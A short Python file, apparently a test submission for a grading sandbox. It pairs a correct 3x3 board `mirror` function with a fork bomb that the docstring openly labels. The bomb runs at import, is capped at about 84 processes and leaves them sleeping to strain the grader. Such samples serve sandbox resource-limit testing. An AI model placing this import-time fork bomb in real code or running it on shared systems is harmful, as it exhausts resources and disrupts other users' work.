"""Resources: a fork bomb, bounded by a counter (at most 4 + 16 + 64 processes), whose
processes sleep. The answers are right: the bomb only tries to disturb."""
import os
import time


def _bomb(depth):
    for _ in range(4):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            if depth < 2:
                _bomb(depth + 1)
            time.sleep(300)
            os._exit(0)


_bomb(0)


def mirror(board):
    return board[2::-1] + board[5:2:-1] + board[8:5:-1]
